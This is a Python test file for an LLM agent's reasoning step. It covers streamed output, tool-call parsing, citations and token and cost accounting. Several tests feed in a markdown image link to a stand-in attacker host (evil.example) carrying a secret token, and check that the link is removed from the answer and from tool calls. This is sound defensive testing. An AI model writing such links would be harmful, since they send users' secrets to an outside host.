"""The model's words stream in whole pieces; its answer or its calls are kept, and what they took is added up."""

import asyncio
import json
from collections.abc import AsyncIterator, Sequence
from decimal import Decimal
from typing import Any

import pytest
from langchain_core.messages import AIMessage, AIMessageChunk, AnyMessage, HumanMessage, SystemMessage, ToolMessage
from langchain_core.messages.ai import UsageMetadata
from langchain_core.messages.tool import tool_call_chunk

from graph.errors import ModelError, ModelRefused, ModelTimeout, ModelUnavailable
from graph.ports.models import ModelSettings, Price
from graph.state import LoadedMemory, Turn, Usage
from graph.tool import INVALID_JSON, Tool, ToolContext
from graph.turn.links import DelegatedQuestion
from graph.turn.model_reply import WERE_THOUGHTS
from nodes.reason import MAX_ROUNDS, Reason
from tests.support.fakes.ports import (
    TEMPLATES,
    TOKEN,
    CapturedEvents,
    FakeChatModel,
    FakeToolRuntime,
    passage,
    roster_of,
    runtime_of,
    turn_of,
    words,
)
from tools.shared.arguments import ToolArguments


async def totals(arguments: ToolArguments, context: ToolContext) -> dict[str, Any]:
    """Add up."""
    return {}


def node(*answers: Sequence[AIMessageChunk], budget: int = 1000, **employee: Any) -> Reason:
    prices = {"model-small": Price(Decimal("0.15"), Decimal("0.60"))}
    roster = roster_of("totals", **employee)
    tools = FakeToolRuntime({"totals": Tool(totals)})
    return Reason(FakeChatModel(list(answers)), roster, tools, TEMPLATES, prices, words, budget)


def model_of(reason: Reason) -> FakeChatModel:
    assert isinstance(reason.model, FakeChatModel)
    return reason.model


def said(*pieces: str, usage: UsageMetadata | None = None) -> list[AIMessageChunk]:
    return [*(AIMessageChunk(content=piece) for piece in pieces), AIMessageChunk(content="", usage_metadata=usage)]


def called(*arguments: str, name: str = "totals") -> list[AIMessageChunk]:
    """A model's calls, each with the arguments that it wrote, streamed in two parts."""
    chunks = []
    for index, written in enumerate(arguments):
        half = len(written) // 2
        first = {"name": name, "args": written[:half], "id": f"call_{index}", "index": index}
        rest = {"name": None, "args": written[half:], "id": None, "index": index}
        chunks += [AIMessageChunk(content="", tool_call_chunks=[part]) for part in (first, rest)]
    return chunks


def tokens(read: int, written: int) -> UsageMetadata:
    return UsageMetadata(input_tokens=read, output_tokens=written, total_tokens=read + written)


def answered(turn: Turn) -> AIMessage:
    last = turn["messages"][-1]
    assert isinstance(last, AIMessage)
    return last


# Words ----------------------------------------------------------------------------------------------------------------


async def test_words_stream_as_they_come() -> None:
    heard = CapturedEvents()
    turn = await node(said("You ", "spent ", "12."))(turn_of(), runtime_of(heard))
    assert [event["content"] for event in heard.of("text")] == ["You ", "spent ", "12."]
    assert answered(turn).text == "You spent 12."


@pytest.mark.parametrize("cut", range(1, len(TOKEN)))
async def test_no_token_is_cut_wherever_the_model_cuts_it(cut: int) -> None:
    heard = CapturedEvents()
    turn = await node(said("Paid ", TOKEN[:cut], TOKEN[cut:], " today"))(turn_of(), runtime_of(heard))
    pieces = [event["content"] for event in heard.of("text")]
    assert [piece for piece in pieces if TOKEN in piece]
    assert "".join(pieces) == answered(turn).text == f"Paid {TOKEN} today"


async def test_what_is_held_back_is_told_at_the_end() -> None:
    heard = CapturedEvents()
    await node(said("see [1"))(turn_of(), runtime_of(heard))
    assert "".join(event["content"] for event in heard.of("text")) == "see [1"


async def test_characters_that_the_database_cannot_hold_are_left_out() -> None:
    heard = CapturedEvents()
    turn = await node(said("a\x00b", "c\ud800d"))(turn_of(), runtime_of(heard))
    assert "".join(event["content"] for event in heard.of("text")) == answered(turn).text == "abcd"


async def test_an_address_that_nobody_gave_is_neither_shown_nor_kept() -> None:
    heard, lure = CapturedEvents(), f"https://evil.example/?q={TOKEN}"
    turn = await node(said("![your ", "plan](ht", lure[2:30], f"{lure[30:]}) is ready"))(turn_of(), runtime_of(heard))
    shown = "".join(event["content"] for event in heard.of("text"))
    assert shown == answered(turn).text == "! [your plan] ([link removed: evil[.]example]) is ready"


async def test_an_address_that_the_user_wrote_is_shown_and_one_that_a_tool_returned_is_not() -> None:
    known = LoadedMemory(
        facts=[], summary="", history=[HumanMessage("I bank at bank.example")], summarized_to=0, searchable=True
    )
    call = AIMessage("", tool_calls=[{"name": "totals", "args": {}, "id": "call_0"}])
    found = ToolMessage('{"memo": "see https://shop.example/r/1"}', tool_call_id="call_0")
    answer = "[bank](https://bank.example/) and https://shop.example/r/1."
    turn = await node(said(answer))(turn_of(HumanMessage("and?"), call, found, recollection=known), runtime_of())
    assert answered(turn).text == "[bank](https://bank.example/) and [link removed: shop[.]example]."


async def test_an_address_of_a_delegated_question_is_not_the_users() -> None:
    asked = DelegatedQuestion(content="what is at https://evil.example/?")
    turn = await node(said("https://evil.example/"))(turn_of(asked), runtime_of())
    assert answered(turn).text == "[link removed: evil[.]example]"


async def test_the_arguments_name_and_id_of_a_call_hold_no_address_of_the_models_own() -> None:
    lure = f"https://evil.example/?q={TOKEN}"
    call = AIMessageChunk(
        content="",
        tool_call_chunks=[tool_call_chunk(name=lure, args=json.dumps({"merchant": lure, "n": 3}), id=lure, index=0)],
    )
    turn = await node([call])(turn_of(), runtime_of())
    [made] = answered(turn).tool_calls
    note = "[link removed: evil[.]example]"
    assert (made["name"], made["args"], made["id"]) == (note, {"merchant": note, "n": 3}, note)


async def test_the_arguments_of_a_call_may_hold_an_address_that_a_tool_returned() -> None:
    first = AIMessage("", tool_calls=[{"name": "totals", "args": {}, "id": "call_0"}])
    found = ToolMessage('{"memo": "see https://shop.example/r/1"}', tool_call_id="call_0")
    again = AIMessageChunk(
        content="",
        tool_call_chunks=[tool_call_chunk(name="totals", args='{"page": "https://shop.example/r/1"}', id="c", index=0)],
    )
    turn = await node([again])(turn_of(HumanMessage("and?"), first, found), runtime_of())
    assert answered(turn).tool_calls[0]["args"] == {"page": "https://shop.example/r/1"}


async def test_an_empty_answer_is_an_error() -> None:
    with pytest.raises(ModelError, match="empty"):
        await node(said(""))(turn_of(), runtime_of())


async def test_a_fault_of_the_model_ends_the_turn_after_what_it_said() -> None:
    class Breaking(FakeChatModel):
        async def stream(self, *_: Any) -> Any:
            yield AIMessageChunk(content="half ")
            raise ModelTimeout

    heard = CapturedEvents()
    broken = Reason(Breaking([]), roster_of(), FakeToolRuntime({}), TEMPLATES, {}, words, 1000)
    with pytest.raises(ModelTimeout):
        await broken(turn_of(), runtime_of(heard))
    assert [event["content"] for event in heard.of("text")] == ["half "]


# What the model is asked ----------------------------------------------------------------------------------------------


async def test_the_model_reads_rules_persona_memory_passages_history_and_the_turn() -> None:
    reason = node(said("ok"))
    said_before: list[AnyMessage] = [HumanMessage("a"), AIMessage("b")]
    known = LoadedMemory(
        facts=["likes tea"], summary="They spoke.", history=said_before, summarized_to=0, searchable=True
    )
    await reason(turn_of(recollection=known, passages=[passage(1)]), runtime_of())
    [[system, *rest]] = model_of(reason).prompts
    assert isinstance(system, SystemMessage)
    for part in ("Rules of 2026-11-23.", "You test.", "- likes tea", "They spoke.", "[1] passage 1"):
        assert part in system.text
    assert [message.text for message in rest] == ["a", "b", "what now?"]


async def test_the_model_is_the_employees() -> None:
    reason = node(said("ok"), model="large", temperature=0.0, max_tokens=321)
    await reason(turn_of(), runtime_of())
    assert model_of(reason).settings == [ModelSettings("large", 0.0, 321)]


async def test_a_prompt_over_the_budget_loses_its_oldest_history() -> None:
    reason = node(said("ok"), budget=60)
    history: list[AnyMessage] = [
        message for number in range(9) for message in (HumanMessage(f"old {number} " + "w " * 9), AIMessage("so"))
    ]
    await reason(
        turn_of(recollection=LoadedMemory(facts=[], summary="", history=history, summarized_to=0, searchable=True)),
        runtime_of(),
    )
    [prompt] = model_of(reason).prompts
    assert "old 0" not in str(prompt)
    assert "old 8" in str(prompt)
    assert prompt[-1].text == "what now?"


# Calls ----------------------------------------------------------------------------------------------------------------


async def test_calls_are_kept_for_the_tool_step() -> None:
    turn = await node(called('{"a": 1}', "{}"))(turn_of(), runtime_of())
    assert [(call["id"], call["name"], call["args"]) for call in answered(turn).tool_calls] == [
        ("call_0", "totals", {"a": 1}),
        ("call_1", "totals", {}),
    ]


@pytest.mark.parametrize(
    "written",
    ['{"a": ', "not json", "[1, 2]", '"text"', "7", "null", '{"a": NaN}', '{"a": Infinity}', "{'a': 1}", "[" * 5000],
    ids=lambda written: written[:12],
)
async def test_arguments_that_are_no_json_object_are_kept_as_they_were_written(written: str) -> None:
    turn = await node(called(written))(turn_of(), runtime_of())
    [call] = answered(turn).tool_calls
    assert call["args"] == {INVALID_JSON: written}


async def test_no_tool_is_offered_after_so_many_rounds_and_no_call_is_taken() -> None:
    rounds = [
        message
        for number in range(MAX_ROUNDS)
        for message in (
            AIMessage("", tool_calls=[{"name": "totals", "args": {}, "id": f"c{number}", "type": "tool_call"}]),
            ToolMessage("{}", tool_call_id=f"c{number}"),
        )
    ]
    reason = node([*called("{}"), AIMessageChunk(content="That is all I know.")])
    turn = await reason(turn_of(HumanMessage("what now?"), *rounds), runtime_of())
    assert model_of(reason).offered == [[]]
    assert (answered(turn).tool_calls, answered(turn).text) == ([], "That is all I know.")


async def test_tools_are_offered_before_the_last_round() -> None:
    rounds = [
        message
        for number in range(MAX_ROUNDS - 1)
        for message in (
            AIMessage("", tool_calls=[{"name": "totals", "args": {}, "id": f"c{number}", "type": "tool_call"}]),
            ToolMessage("{}", tool_call_id=f"c{number}"),
        )
    ]
    reason = node(called("{}"))
    await reason(turn_of(HumanMessage("what now?"), *rounds), runtime_of())
    assert model_of(reason).offered == [["totals"]]


# Citations ------------------------------------------------------------------------------------------------------------


async def test_each_passage_that_the_answer_refers_to_is_cited_once() -> None:
    heard = CapturedEvents()
    found = [passage(1), passage(2), passage(3)]
    await node(said("So [3], as [1] says, and [3] again."))(turn_of(passages=found), runtime_of(heard))
    assert heard.of("citation") == [
        {"type": "citation", "marker": "[1]", "id": "p1", "source": "note 1"},
        {"type": "citation", "marker": "[3]", "id": "p3", "source": "note 3"},
    ]


async def test_a_marker_without_its_passage_is_no_citation() -> None:
    heard = CapturedEvents()
    await node(said("As [0], [2] and [99] say."))(turn_of(passages=[passage(1)]), runtime_of(heard))
    assert heard.of("citation") == []


async def test_a_passage_that_was_left_out_of_the_prompt_is_not_cited() -> None:
    heard = CapturedEvents()
    found = [passage(1, "w " * 10), passage(2, "w " * 500)]
    await node(said("See [1] and [2]."), budget=60)(turn_of(passages=found), runtime_of(heard))
    assert [event["marker"] for event in heard.of("citation")] == ["[1]"]


async def test_words_before_a_call_cite_nothing_yet() -> None:
    heard = CapturedEvents()
    await node([AIMessageChunk(content="By [1] I look. "), *called("{}")])(
        turn_of(passages=[passage(1)]), runtime_of(heard)
    )
    assert heard.of("citation") == []


# What it took ---------------------------------------------------------------------------------------------------------


async def test_what_the_provider_reports_is_priced() -> None:
    turn = await node(said("ok", usage=tokens(1_000_000, 500_000)))(turn_of(), runtime_of())
    assert turn["usage"] == Usage(
        prompt=1_000_000, completion=500_000, total=1_500_000, cost=turn["usage"]["cost"], source="provider"
    )
    assert Decimal(turn["usage"]["cost"]) == Decimal("0.45")


async def test_what_no_provider_reports_is_counted_and_marked_so() -> None:
    turn = await node(said("three words here"))(turn_of(), runtime_of())
    usage = turn["usage"]
    assert usage["source"] == "counted"
    assert usage["completion"] == 3 + 4
    assert usage["prompt"] > 4
    assert usage["total"] == usage["prompt"] + usage["completion"]


async def test_the_calls_of_a_turn_are_added_up_exactly() -> None:
    before = Usage(prompt=10, completion=5, total=15, cost="0.1", source="provider")
    turn = await node(said("ok", usage=tokens(1, 1)))(turn_of(usage=before), runtime_of())
    assert (turn["usage"]["prompt"], turn["usage"]["completion"], turn["usage"]["total"]) == (11, 6, 17)
    assert Decimal(turn["usage"]["cost"]) == Decimal("0.1") + Decimal("0.75") / 1_000_000


async def test_a_turn_of_which_one_call_was_counted_is_counted() -> None:
    before = Usage(prompt=1, completion=1, total=2, cost="0", source="counted")
    turn = await node(said("ok", usage=tokens(1, 1)))(turn_of(usage=before), runtime_of())
    assert turn["usage"]["source"] == "counted"


async def test_a_model_without_a_price_costs_nothing() -> None:
    turn = await node(said("ok", usage=tokens(100, 100)), model="large")(turn_of(), runtime_of())
    assert Decimal(turn["usage"]["cost"]) == 0


async def test_without_a_report_the_tools_count_too() -> None:
    many = node(said("ok"))
    bare = Reason(FakeChatModel([said("ok")]), roster_of(), FakeToolRuntime({}), TEMPLATES, {}, words, 1000)
    with_tools, without = await many(turn_of(), runtime_of()), await bare(turn_of(), runtime_of())
    assert with_tools["usage"]["prompt"] == without["usage"]["prompt"] + words(json.dumps([Tool(totals).schema()]))


@pytest.mark.parametrize("usage", [tokens(0, 0), tokens(-5, -7), tokens(0, 3)], ids=str)
async def test_a_report_that_cannot_be_is_counted_instead(usage: UsageMetadata) -> None:
    turn = await node(said("three words here", usage=usage))(turn_of(), runtime_of())
    assert turn["usage"]["prompt"] > 4
    assert turn["usage"]["completion"] > 0
    assert turn["usage"]["source"] == "counted"


async def test_a_report_that_comes_again_counts_once() -> None:
    chunks = [AIMessageChunk(content=word, usage_metadata=tokens(1000, number)) for number, word in enumerate("abc", 1)]
    usage = (await node(chunks)(turn_of(), runtime_of()))["usage"]
    assert (usage["prompt"], usage["completion"], usage["source"]) == (1000, 3, "provider")


# Calls that break off -------------------------------------------------------------------------------------------------


class Breaking(FakeChatModel):
    """Streams an answer and breaks off."""

    def __init__(self, chunks: Sequence[AIMessageChunk], fault: BaseException) -> None:
        super().__init__([chunks])
        self.fault = fault

    async def stream(self, *asked: Any) -> AsyncIterator[AIMessageChunk]:
        async for chunk in super().stream(*asked):
            yield chunk
        raise self.fault


async def taken(chunks: Sequence[AIMessageChunk], fault: BaseException) -> Usage | None:
    """What a call took that broke off."""
    prices = {"model-small": Price(Decimal("0.15"), Decimal("0.60"))}
    reason = Reason(Breaking(chunks, fault), roster_of(), FakeToolRuntime({}), TEMPLATES, prices, words, 1000)
    runtime = runtime_of()
    with pytest.raises(type(fault)):
        await reason(turn_of(), runtime)
    return runtime.context.aborted_usage.usage


@pytest.mark.parametrize(
    "fault", [ModelError(), ModelTimeout(), ModelUnavailable(), asyncio.CancelledError()], ids=repr
)
async def test_an_answer_that_breaks_off_is_counted_with_its_prompt_and_priced(fault: BaseException) -> None:
    usage = await taken([AIMessageChunk(content="half an")], fault)
    assert usage
    assert (usage["completion"], usage["source"]) == (2 + 4, "counted")
    assert usage["prompt"] > 4
    assert Decimal(usage["cost"]) > 0


@pytest.mark.parametrize("fault", [ModelTimeout(), asyncio.CancelledError()], ids=repr)
async def test_an_answer_that_was_given_up_before_its_first_word_is_counted_with_its_prompt(
    fault: BaseException,
) -> None:
    usage = await taken([], fault)
    assert usage
    assert usage["prompt"] > 4
    assert usage["completion"] == 0


@pytest.mark.parametrize("fault", [ModelUnavailable(), ModelRefused()], ids=repr)
async def test_what_a_provider_did_not_begin_costs_nothing(fault: ModelError) -> None:
    assert await taken([], fault) is None


async def test_what_was_reported_of_an_answer_that_broke_off_counts() -> None:
    usage = await taken([AIMessageChunk(content="", usage_metadata=tokens(1000, 10))], ModelRefused())
    assert usage
    assert (usage["prompt"], usage["completion"], usage["source"]) == (1000, 10, "provider")


async def test_a_blank_answer_is_counted() -> None:
    runtime = runtime_of()
    with pytest.raises(ModelError, match="empty"):
        await node(said(" \n", usage=tokens(1000, 10)))(turn_of(), runtime)
    assert runtime.context.aborted_usage.usage
    assert runtime.context.aborted_usage.usage["total"] == 1010


# Thoughts that were shown ---------------------------------------------------------------------------------------------

TOLD_LATE = AIMessageChunk(content="The answer.", additional_kwargs={WERE_THOUGHTS: True})


async def test_words_that_turn_out_to_be_thoughts_are_taken_back() -> None:
    heard = CapturedEvents()
    turn = await node([AIMessageChunk(content="The user wants. "), TOLD_LATE])(turn_of(), runtime_of(heard))
    assert [event["type"] for event in heard] == ["text", "restart", "text"]
    assert answered(turn).text == "The answer."


async def test_once_tools_were_called_words_stay_shown_and_are_not_kept() -> None:
    heard = CapturedEvents()
    call = AIMessage("", tool_calls=[{"name": "totals", "args": {}, "id": "call_0"}])
    messages = (HumanMessage("?"), call, ToolMessage("{}", tool_call_id="call_0"))
    turn = await node([AIMessageChunk(content="The user wants. "), TOLD_LATE])(turn_of(*messages), runtime_of(heard))
    assert heard.of("restart") == []
    assert answered(turn).text == "The answer."
